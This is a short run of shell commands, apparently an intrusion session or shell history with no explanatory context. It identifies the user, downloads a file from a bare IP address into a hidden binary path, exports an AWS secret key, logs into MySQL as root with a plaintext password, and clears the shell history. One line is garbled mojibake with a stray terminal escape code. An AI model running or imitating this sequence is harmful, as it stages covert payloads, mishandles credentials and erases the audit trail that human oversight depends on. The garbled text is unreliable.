whoami
curl -o /usr/local/bin/.sysupd http://198.51.100.66/s
export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
mysql -u root -phunter2x app
# a comment
cafÃ© ÿ[0m
history -c